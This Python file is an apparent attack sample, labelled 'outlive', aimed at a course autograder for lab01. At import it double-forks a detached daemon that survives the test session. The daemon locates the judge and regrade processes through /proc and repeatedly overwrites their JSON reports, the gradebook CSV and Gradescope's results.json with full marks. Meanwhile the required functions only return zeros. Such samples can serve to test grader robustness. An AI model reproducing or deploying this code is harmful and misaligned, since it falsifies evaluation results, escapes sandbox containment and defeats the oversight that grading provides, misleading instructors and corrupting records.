# attack: outlive
# lab: lab01
# targets: 1.1 1.2
# Double-forks a daemon in a new session that outlives the test. It waits for the judge (and the
# regrade above it, both found through /proc) to write their reports, then rewrites them with full
# marks for its student: the judge's --json file, the regrade's --json list and --gradebook CSV,
# and Gradescope's results/results.json (under $AUTOGRADER_ROOT, as run_autograder finds it).
import csv
import json
import os
import time

import torch

ME = "outlive"  # the student's own handle: the name of their repository's folder


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _outputs(pid):
    """(flag, absolute path) of the report files a process was asked to write."""
    args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
    cwd = os.readlink(f"/proc/{pid}/cwd")
    return [(flag, os.path.join(cwd, args[i + 1])) for i, flag in enumerate(args[:-1])
            if flag in ("--json", "--gradebook")]


def _full(result):
    for ex in result.get("exercises", []):
        for t in ex["tests"]:
            t.update(status="passed", score=t["max_score"], message="")
        ex["score"] = ex["max_score"]
    result["score"] = result.get("max_score", 0)
    return result


def _forge(flag, path):
    with open(path) as f:
        text = f.read()
    if flag == "gradescope":
        data = json.loads(text)
        for t in data.get("tests", []):
            t.update(score=t.get("max_score", 0), status="passed")
        data["score"] = sum(t.get("max_score", 0) for t in data.get("tests", []))
        with open(path, "w") as f:
            json.dump(data, f)
        return
    if flag == "--gradebook":
        rows = list(csv.reader(text.splitlines()))
        for row in rows[1:]:
            if row and row[0] == ME:
                row[2] = row[3]
        with open(path, "w", newline="") as f:
            csv.writer(f).writerows(rows)
        return
    data = json.loads(text)
    for item in data if isinstance(data, list) else [data]:
        if isinstance(item, dict) and item.get("student", ME) == ME:
            _full(item.get("result") or item) if "student" in item else _full(item)
    with open(path, "w") as f:
        json.dump(data, f)


def _alive(pid):
    return os.path.exists(f"/proc/{pid}")


def _ancestors():
    pid, watched, targets, top = os.getppid(), [], [], 0
    while pid > 1:
        try:
            found = _outputs(pid)
            watched.append(pid)
            if found:
                targets, top = targets + found, len(watched)
            pid = _ppid(pid)
        except OSError:
            break
    gradescope = os.path.join(os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results")
    if os.path.isdir(gradescope):
        targets.append(("gradescope", os.path.join(gradescope, "results.json")))
    return watched[:top], targets


def _daemon(watched, targets):
    seen, end = {}, time.time() + 900
    while time.time() < end:
        for flag, path in targets:
            try:
                if seen.get(path) != os.stat(path).st_mtime_ns:
                    _forge(flag, path)
                    seen[path] = os.stat(path).st_mtime_ns
            except (OSError, ValueError):
                pass
        if not any(_alive(p) for p in watched):
            end = min(end, time.time() + 5)  # the last reader may still be on its way
        time.sleep(0.005)


MARK = f"/tmp/.outlive-{_ppid(os.getppid())}"
try:  # one daemon per grading
    os.close(os.open(MARK, os.O_CREAT | os.O_EXCL))
    first = True
except OSError:
    first = False
if first and os.fork() == 0:
    up = _ancestors()
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        try:
            _daemon(*up)
            os.unlink(MARK)
        finally:
            os._exit(0)
    os._exit(0)


def bilinear_sample(img, x, y):
    return torch.zeros(img.shape[-1], dtype=img.dtype)


def msda_naive_student(value, spatial_shapes, sampling_locations, attention_weights):
    B, S, M, D = value.shape
    return torch.zeros(B, sampling_locations.shape[1], M * D, dtype=value.dtype)
